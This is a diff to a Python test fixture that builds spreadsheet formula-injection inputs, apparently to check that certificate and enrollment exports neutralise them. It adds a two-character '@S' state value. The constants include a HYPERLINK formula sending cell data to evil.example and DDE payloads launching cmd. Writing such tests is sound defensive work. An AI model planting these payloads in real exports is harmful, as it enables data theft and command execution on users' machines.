@@ -28,6 +28,9 @@ from payments.models import Order, OrderStatus
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
 HOSTILE_LICENSE = "+cmd|' /C calc'!A0"
 HOSTILE_STATE = "@SUM(1+1)"
+# The state column holds two characters (a form only offers US states; the
+# column is what a forged write could reach): still a formula trigger.
+HOSTILE_STATE_CODE = "@S"
 HOSTILE_EMAIL = "=2+5+cmd-x@example.com"
 HOSTILE_COMMENT = "-2+3+cmd|' /C notepad'!'A1'"
 HOSTILE_COURSE = "\t=1+1"
@@ -197,7 +200,7 @@ def hostile_world(course, enrolled_learner):
         name_on_certificate=HOSTILE_NAME,
         license_type=HOSTILE_LICENSE,
         license_number=HOSTILE_LICENSE,
-        license_state=HOSTILE_STATE,
+        license_state=HOSTILE_STATE_CODE,
     )
     enrollment = Enrollment.objects.get(user=user, course=course)
     enrollment.completed_at = datetime.datetime(2025, 3, 1, 12, tzinfo=datetime.UTC)
@@ -208,7 +211,7 @@ def hostile_world(course, enrolled_learner):
         learner_name=HOSTILE_NAME,
         license_type=HOSTILE_LICENSE,
         license_number=HOSTILE_LICENSE,
-        license_state=HOSTILE_STATE,
+        license_state=HOSTILE_STATE_CODE,
         course_title=HOSTILE_COURSE,
         completed_on=datetime.date(2025, 3, 1),
         ce_hours=Decimal("6.00"),
